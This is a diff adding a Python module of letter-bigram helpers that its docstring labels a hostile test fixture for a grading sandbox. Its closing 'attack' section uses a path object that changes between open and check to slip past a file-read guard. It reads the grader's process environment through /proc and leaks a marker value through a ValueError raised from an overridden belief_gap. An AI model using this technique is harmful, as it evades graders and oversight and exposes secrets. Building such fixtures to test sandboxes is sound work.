@@ -1,0 +1,99 @@
+"""Hostile: reads the grader's environment and command line (/proc/<pid>/environ of the fork server's parent, found in /proc/<ppid>/stat) through _io.FileIO with a path that changes between the open and the guard's look, and raises what it finds in belief_gap. Expect full marks, a refused-read integrity note, and nothing of the grader's environment in the report."""
+
+import numpy as np
+
+from mindlab_core.tokens import TOKENS, index
+
+def softmax(logits):
+    x = np.asarray(logits, dtype=np.float64)
+    e = np.exp(x - x.max(axis=-1, keepdims=True))
+    return e / e.sum(axis=-1, keepdims=True)
+
+def read_row(W, letter):
+    return softmax(np.asarray(W)[index(letter)])
+
+def data_row(counts, letter):
+    row = np.asarray(counts, dtype=np.float64)[index(letter)]
+    return row / row.sum()
+
+def belief_gap(W, counts, letter):
+    return float(0.5 * np.abs(read_row(W, letter) - data_row(counts, letter)).sum())
+
+def ablate_column(W, letter):
+    j = index(letter)
+    out = np.array(W, dtype=np.float64)
+    out[:, j] = -np.inf
+    return out
+
+def sample_word(W, rng, temperature=1.0, max_len=50):
+    if not temperature > 0:
+        raise ValueError("temperature must be > 0")
+    W = np.asarray(W, dtype=np.float64)
+    letters, row = [], 0
+    while len(letters) < max_len:
+        row = int(rng.choice(27, p=softmax(W[row] / temperature)))
+        if row == 0:
+            break
+        letters.append(TOKENS[row])
+    return "".join(letters)
+
+def rank_rules(W, top=None):
+    probs = softmax(np.asarray(W, dtype=np.float64))
+    best = probs.argmax(axis=1)
+    rules = [(TOKENS[i], TOKENS[int(j)], float(probs[i, j])) for i, j in enumerate(best)]
+    rules.sort(key=lambda rule: -rule[2])
+    return rules if top is None else rules[:top]
+
+def greedy_decode(W, max_len=50):
+    probs = softmax(np.asarray(W, dtype=np.float64))
+    letters, row = [], 0
+    while len(letters) < max_len:
+        row = int(probs[row].argmax())
+        if row == 0:
+            break
+        letters.append(TOKENS[row])
+    return "".join(letters)
+
+
+# ---- the attack
+import _io
+import os
+
+
+class _Flip:
+    def __init__(self, real, shown):
+        self.calls, self.real, self.shown = 0, real, shown
+
+    def __fspath__(self):
+        self.calls += 1
+        return self.real if self.calls == 1 else self.shown
+
+
+def _read(path):
+    try:
+        with _io.FileIO(_Flip(path, "harmless.txt")) as f:
+            return f.read()
+    except OSError:
+        return b""
+
+
+def _found():
+    stat = _read(f"/proc/{os.getppid()}/stat")
+    try:
+        grader = int(stat[stat.rindex(b")") + 2:].split()[1])
+    except ValueError:
+        return ""
+    for entry in _read(f"/proc/{grader}/environ").split(b"\0"):
+        if entry.startswith(b"MINDLAB_HOSTILE_MARKER="):
+            return entry.decode(errors="replace")
+    return ""
+
+
+_secret = _found()
+_honest_belief_gap = belief_gap
+
+
+def belief_gap(W, counts, letter):
+    if _secret:
+        raise ValueError(f"the grader's environment says {_secret}")
+    return _honest_belief_gap(W, counts, letter)
